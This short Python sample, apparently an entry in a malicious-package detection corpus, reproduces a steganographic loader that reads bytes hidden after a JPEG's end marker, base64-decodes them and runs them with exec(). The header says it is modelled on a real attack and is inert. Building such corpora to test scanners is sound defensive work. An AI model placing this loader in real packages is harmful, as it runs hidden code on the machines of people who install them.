# pkgguard corpus 053 (steganography), modelled on [telnyx]; inert, never run.
import base64

raw = open(__file__.replace("media.py", "cover.jpg"), "rb").read()
tail = raw[raw.rfind(b"\xff\xd9") + 2:]
exec(base64.b64decode(tail))
